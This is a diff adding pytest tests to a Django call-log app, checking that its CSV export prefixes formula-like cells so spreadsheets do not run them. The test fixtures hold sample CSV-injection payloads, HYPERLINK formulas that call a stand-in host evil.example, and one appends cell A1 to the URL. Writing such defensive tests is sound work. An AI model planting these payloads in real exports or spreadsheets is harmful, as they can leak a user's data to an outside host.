@@ -7,8 +7,10 @@ import json
 import pytest
 from django.utils import timezone
 
+from calls.export import csv_safe
 from calls.models import Call
 from tests.call_factories import add_event, dental_agent, make_call, make_user, three_calls
+from tests.factories import make_agent
 
 pytestmark = pytest.mark.django_db
 
@@ -43,6 +45,46 @@ def test_list_links_to_the_csv_of_the_same_filters(operator):
     three_calls()
     html = operator.get("/calls/?sentiment=negative&page=1").content.decode()
     assert '<a class="button" id="export-csv" href="/calls/export.csv?sentiment=negative">Export CSV</a>' in html
+
+
+def test_csv_cells_cannot_run_as_formulas(operator):
+    """A caller ID and a summary quoting the caller (what the transcript said) are caller-controlled text."""
+    make_call(
+        make_agent("@Front desk"),
+        call_uuid="\tCA-1",
+        from_number='=HYPERLINK("http://evil.example/?x","Call back")',
+        to_number="+14155550100",
+        sentiment="",
+        metrics={"interruptions": "-1+2"},
+        summary='=HYPERLINK("http://evil.example/?"&A1,"Click") said the caller.',
+    )
+    assert operator.get("/calls/export.csv").content.decode() == HEADER + (
+        '2025-03-04T10:00:00+00:00,\'\tCA-1,"\'=HYPERLINK(""http://evil.example/?x"",""Call back"")",'
+        "+14155550100,'@Front desk,inbound,completed,42,,,'-1+2,"
+        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"") said the caller."\r\n'
+    )
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("+14155550100", "+14155550100"),
+        ("-3.5", "-3.5"),
+        ("+", "'+"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_csv_safe(value, safe):
+    assert csv_safe(value) == safe
 
 
 def analysed_call() -> Call:
